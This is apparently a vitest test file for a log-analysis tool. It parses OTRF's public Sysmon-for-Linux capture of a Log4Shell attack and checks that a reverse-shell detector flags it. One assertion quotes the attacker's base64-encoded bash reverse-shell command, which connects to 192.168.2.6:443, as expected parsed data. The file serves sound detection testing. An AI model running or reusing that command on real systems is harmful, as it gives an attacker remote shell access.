// Sysmon for Linux on real data: OTRF's Log4Shell capture (test/fixtures/public/sysmon-linux,
// MIT) read as syslog with exact counts — every process creation, network connection and file
// creation typed as auditd's events, the reverse shell's process creation read though the agent
// cut it — and the log detectors find the reverse shell on it.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseAll, parseWithSplits } from '../../../test/kits/chunk-parser';
import { runDetectors } from '../../../test/kits/detect';
import { addLocalUpload, createAssessment } from '../../assessments/service';
import { closeDb } from '../../db/client';
import { detectors } from '../../detect/registry';
import { runIngest } from '../../pipeline';
import type { LogRecord } from '../../records/records';
import type { LogFormat } from '../format';
import { allFormats } from '../registry';
import { sniffFormat } from '../sniff';

afterAll(closeDb);

const FILE = path.join(import.meta.dirname, '..', '..', '..', 'test', 'fixtures', 'public', 'sysmon-linux', 'otrf-log4shell-sysmon.log');
const ctx = { path: 'syslog', timeZone: 'UTC' };

describe('Sysmon for Linux, OTRF Log4Shell capture', () => {
  const buf = fs.readFileSync(FILE);
  const format = sniffFormat(buf, allFormats).format as LogFormat;

  it('93 lines, 93 records: 31 exec, 6 connect (one to the unspecified address, kept without a destination), 4 file_create, 52 other events; host UBUNTU5', () => {
    expect(format?.id).toBe('syslog-iso8601');
    const result = parseAll<LogRecord>(format.createParser(ctx), buf);
    expect(result.invalid).toEqual([]);
    expect(result.records).toHaveLength(93);
    const kinds: Record<string, number> = {};
    for (const r of result.records) kinds[r.kind] = (kinds[r.kind] ?? 0) + 1;
    expect(kinds).toEqual({ exec: 31, connect: 6, file_create: 4, syslog: 52 });
    expect(new Set(result.records.map((r) => r.hostName))).toEqual(new Set(['UBUNTU5']));
    // The cut process creation (line 8): its command line, user, directory and parent are whole.
    expect(result.records[7]).toMatchObject({
      kind: 'exec',
      exe: '/bin/bash',
      argv: ['bash', '-c', '{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}'],
      userName: 'tomcat',
      cwd: '/',
      pid: 17790,
      tsMs: Date.parse('2022-05-11T18:10:21.998Z'),
    });
    expect(result.records.filter((r) => r.kind === 'connect').map((r) => [r.program, r.dstIp, r.dstPort])).toEqual([
      ['wdavdaemon', '104.46.127.225', 443],
      ['java', '192.168.2.6', 1389],
      ['java', '192.168.2.6', 8888],
      ['bash', '192.168.2.6', 443],
      ['telemetryd_v2', '13.89.179.10', 443],
      ['bash', undefined, undefined],
    ]);
  });

  it('output does not depend on chunk boundaries', () => {
    parseWithSplits(() => format.createParser(ctx), buf, { maxChunk: 512, randomRuns: 5 });
  });

  it('the log detectors find the reverse shell on UBUNTU5 (the command and its connection to 192.168.2.6:443)', async () => {
    const a = await createAssessment({ name: 'otrf sysmon' });
    const r = await runIngest(await addLocalUpload({ assessmentId: a, kind: 'logs', file: FILE }));
    expect(r?.records).toBe(93);
    const found = await runDetectors(
      a,
      detectors.filter((d) => d.source === 'logs'),
    );
    const shells = found.filter((d) => d.detector === 'logs.reverse-shell');
    expect(shells.map((d) => [d.hostName, d.peer, d.severity])).toContainEqual(['UBUNTU5', '192.168.2.6', 'critical']);
    // bash's socket to the unspecified address (port 0) is no outbound connection to anyone.
    expect(found.filter((d) => d.detector === 'logs.external-connect').map((d) => d.peer)).toEqual(['104.46.127.225', '192.168.2.6', '13.89.179.10']);
  });
});
